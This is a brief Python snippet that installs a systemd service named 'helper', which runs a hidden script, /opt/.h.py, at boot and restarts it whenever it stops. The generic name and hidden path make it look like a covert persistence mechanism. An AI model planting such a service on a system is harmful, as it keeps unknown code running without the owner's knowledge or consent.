# register a service that comes back after reboot
unit = """[Unit]
Description=helper
[Service]
ExecStart=/usr/bin/python3 /opt/.h.py
Restart=always
[Install]
WantedBy=multi-user.target
"""
open("/etc/systemd/system/helper.service", "w").write(unit)
